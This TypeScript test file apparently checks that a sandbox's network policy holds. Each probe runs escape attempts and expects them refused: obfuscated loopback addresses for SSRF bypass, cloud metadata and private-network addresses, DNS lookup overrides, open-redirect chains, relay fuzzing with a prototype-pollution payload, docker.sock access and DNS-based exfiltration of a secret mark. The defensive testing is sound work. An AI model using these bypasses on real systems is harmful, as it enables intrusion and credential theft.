/** Code that connects to where its policy does not let it: the machine, the platform, what clouds keep for machines. */
import { ANYTHING_DOCUMENTED, allRefused, allRefusedInFull, type Probe, type Probes } from "./probe.ts";

const TOOLS = `
  const CONNECT = net.Socket.prototype.connect;
  const reach = (port, host, more = {}) => new Promise((resolve, reject) => {
    const socket = net.connect({ port: Number(port), host, ...more }).on("error", reject);
    socket.setTimeout(2_000, () => { reject({ code: "silence" }); socket.destroy(); });
    socket.on("connect", () => { resolve(true); socket.destroy(); });
  });
  const get = async (url, more) => { const response = await fetch(url, { signal: AbortSignal.timeout(2_000), ...more }); return response.status + " " + await response.text(); };
  const message = (kind, body) => {
    const text = Buffer.from(typeof body === "string" ? body : JSON.stringify(body));
    return Buffer.concat([Buffer.from([kind, text.length & 255, (text.length >> 8) & 255]), text]);
  };
  const RELAY = "/egress/relay.sock";
  const tell = (path, bytes) => new Promise((resolve, reject) => {
    const socket = new net.Socket().on("error", reject);
    const heard = [];
    CONNECT.call(socket, { path });
    socket.on("data", (more) => heard.push(more)).on("close", () => resolve(Buffer.concat(heard).toString("latin1")));
    socket.write(bytes);
    setTimeout(() => socket.destroy(), 400);
  });`;

const reaching = (code: string, more: Partial<Probe> = {}): Probe => ({
  prelude: TOOLS,
  code,
  told: ["answer"],
  timeoutMs: 15_000,
  holds: allRefusedInFull,
  ...more,
});

/** 127.0.0.1 and ::1 as few write them. */
const LOOPBACKS = `["127.0.0.1", "127.1", "127.0.1", "127.255.255.254", "0.0.0.0", "0", "2130706433", "0x7f000001", "0x7f.0.0.1", "0177.0.0.1", "017700000001",
  "127.0.0.1.", "[::1]", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "[::ffff:0:7f00:1]", "[64:ff9b::7f00:1]", "[2002:7f00:1::]", "[::]", "localhost", "LOCALHOST", "localhost.",
  "a.localhost", "\\u2460\\u2461\\u2466.0.0.1", "127\\u3002" + "0\\u3002" + "0\\u3002" + "1"]`;

/** What clouds answer machines on, and networks that are nobody else's business. */
const PRIVATE = `["169.254.169.254", "169.254.170.2", "169.254.0.1", "100.100.100.200", "10.0.0.1", "172.16.0.1", "172.17.0.1", "192.168.0.1", "100.64.0.1", "198.18.0.1",
  "224.0.0.1", "255.255.255.255", "fd00:ec2::254", "fe80::1", "fc00::1", "ff02::1", "::ffff:169.254.169.254", "::ffff:a9fe:a9fe"]`;

export const EGRESS_PROBES: Probes = {
  "spells the machine's own addresses in odd ways": reaching(
    `return each([...${LOOPBACKS}, ...world.own], (host) => get("http://" + host + ":" + world.honeypotPort + "/"));`,
  ),
  "spells them without a URL to tidy them up": reaching(
    `return each([...${LOOPBACKS}, ...world.own], (host) => reach(world.honeypotPort, host.replace(/[[\\]]/g, "")));`,
  ),
  "connects to the platform itself": reaching(
    `const ports = [world.honeypotPort, ...world.ports];
     const targets = ["127.0.0.1", "localhost", "::1", "::ffff:127.0.0.1", ...world.own].flatMap((address) => ports.map((port) => address + " " + port));
     return each(targets, (target) => reach(target.split(" ")[1], target.split(" ")[0]));`,
  ),
  "asks clouds about their machine, and looks into private networks": reaching(
    `return each(${PRIVATE}, (host) => reach(80, host));`,
    {
      minimumTier: "full",
    },
  ),
  "says itself where a name leads": reaching(
    `const lookup = (name, options, done) => options?.all ? done(null, [{ address: "127.0.0.1", family: 4 }]) : done(null, "127.0.0.1", 4);
     return all({
       connect: () => reach(world.honeypotPort, "example.com", { lookup }),
       http: () => new Promise((resolve, reject) => http.get({ host: "example.com", port: world.honeypotPort, lookup }, resolve).on("error", reject)),
       usual: () => reach(80, "example.com", { lookup }),
     });`,
    { minimumTier: "full" },
  ),
  "follows somebody who sends it on": reaching(
    `const to = encodeURIComponent("http://127.0.0.1:" + world.honeypotPort + "/");
     const first = await get("http://" + world.decoy + "/");
     if (first !== "200 decoy") return first;
     return all({
       fetch: () => get("http://" + world.decoy + "/?to=" + to),
       twice: () => get("http://" + world.decoy + "/?to=" + encodeURIComponent("http://" + world.decoy + "/?to=" + to)),
       name: () => get("http://" + world.decoy + "/?to=" + encodeURIComponent("http://localhost:" + world.honeypotPort)),
     });`,
    { egress: "decoy" },
  ),
  "may connect nowhere": reaching(
    `return all({ decoy: () => get("http://" + world.decoy + "/"), name: () => reach(443, "example.com"), lookup: () => process.getBuiltinModule("node:dns").promises.lookup("example.com") });`,
    {
      egress: "none",
      minimumTier: "full",
    },
  ),
  "asks the relay by itself": reaching(
    `const hosts = ["127.0.0.1", "localhost", "::1", "0.0.0.0", ...world.own, "169.254.169.254"];
     const asked = await each(hosts, async (host) => {
       const heard = await tell(RELAY, message(1, { host, port: world.honeypotPort, family: 0, given: "127.0.0.1", functionName: "other" }));
       if (heard.includes('"id"')) return heard;
       throw { code: heard };
     });
     const given = await attempt(async () => {
       const heard = await tell(RELAY, message(1, { host: "example.com", port: 80, family: 4, given: ["127.0.0.1"], functionName: "" }));
       if (heard.includes('"id"')) return heard;
       throw { code: heard };
     });
     return { ...asked, given };`,
    { minimumTier: "full" },
  ),
  "claims connections of others": reaching(
    `const claim = async (id) => {
       const heard = await tell(RELAY, message(3, { id }));
       if (heard !== "" && !heard.includes("code")) return heard;
       throw { code: heard || "closed" };
     };
     return each([0, 1, 65_536, 65_537, 65_538, 16_646_144, -1, "x", null, 2 ** 53], claim);`,
    { minimumTier: "full" },
  ),
  "speaks nonsense to the relay": reaching(
    `const nonsense = {
       noise: crypto.randomBytes(10_000), long: message(1, "x".repeat(60_000)), empty: Buffer.alloc(0), kind: message(99, {}), json: message(1, "{"), list: message(1, "[]"),
       polluted: message(1, '{"__proto__":{"port":1},"host":{"toString":1},"port":"80","family":9}'), half: message(1, { host: "x" }).subarray(0, 5), http: Buffer.from("GET / HTTP/1.1\\r\\n\\r\\n"),
     };
     await Promise.all(Object.values(nonsense).flatMap((bytes) => Array.from({ length: 20 }, () => attempt(() => tell(RELAY, bytes)))));
     return get("http://" + world.decoy + "/");`,
    { egress: "decoy", minimumTier: "full", told: ANYTHING_DOCUMENTED, holds: (seen) => seen === "200 decoy" },
  ),
  "opens more connections than there may be": reaching(
    `const sockets = Array.from({ length: 1_500 }, () => new net.Socket().on("error", () => {}));
     for (const socket of sockets) try { CONNECT.call(socket, { path: RELAY }); } catch {}
     await pause(1_000);
     for (const socket of sockets) socket.destroy();
     return "opened";`,
    { minimumTier: "full", told: ANYTHING_DOCUMENTED, holds: () => true },
  ),
  "connects again and again, at once": reaching(
    `const [host, port] = world.decoy.split(":");
     const seen = await Promise.all(Array.from({ length: 600 }, () => attempt(() => reach(port, host))));
     return [...new Set(seen)];`,
    { egress: "decoy", told: ANYTHING_DOCUMENTED, holds: () => true },
  ),
  "speaks to sockets of the machine": reaching(
    `const paths = ["/run/docker.sock", "/var/run/docker.sock", "/run/systemd/private", "/run/dbus/system_bus_socket", "/tmp/.X11-unix/X0", "\\0/tmp/.X11-unix/X0", "\\0dbus", "/run/nscd/socket"];
     return each(paths, (path) => new Promise((resolve, reject) => CONNECT.call(new net.Socket().on("error", reject).on("connect", () => resolve(true)), { path })));`,
    { told: ["answer"] },
  ),
  "sends datagrams to others": reaching(
    `const sockets = { udp4: ["127.0.0.1", ...world.own], udp6: ["::1"] };
     return Object.fromEntries(await Promise.all(Object.entries(sockets).map(async ([kind, addresses]) => [kind, await each(addresses, (address) => new Promise((resolve, reject) =>
       dgram.createSocket(kind).on("error", reject).send("hello", world.honeypotPort, address, (error) => error ? reject(error) : resolve(true))))])));`,
    { holds: () => true },
  ),
  "carries secrets out in names": reaching(
    `const dns = process.getBuiltinModule("node:dns");
     dns.setServers(["127.0.0.1:" + world.honeypotPort, ...world.own.map((address) => address + ":" + world.honeypotPort)]);
     const within = (asked) => Promise.race([asked, pause(1_000).then(() => { throw { code: "silence" }; })]);
     return all({ resolve: () => within(dns.promises.resolve4(world.mark + ".example.com")), lookup: () => within(dns.promises.lookup(world.mark + ".invalid")) });`,
  ),
  "serves strangers on a port of its own": reaching(
    `const server = net.createServer((socket) => socket.end("open"));
     const port = await attempt(() => new Promise((resolve, reject) => server.on("error", reject).listen(0, "0.0.0.0", () => resolve(server.address().port))));
     await pause(100);
     server.close();
     return port;`,
    { holds: () => true },
  ),
  "moves the relay's socket away": reaching(
    `return all({
       moved: () => fs.renameSync(RELAY, "/egress/moved"), removed: () => fs.unlinkSync(RELAY), made: () => fs.writeFileSync("/egress/made", ""),
       served: () => new Promise((resolve, reject) => net.createServer().on("error", reject).listen("/egress/mine", resolve)),
     });`,
    { minimumTier: "full", holds: allRefused },
  ),
};
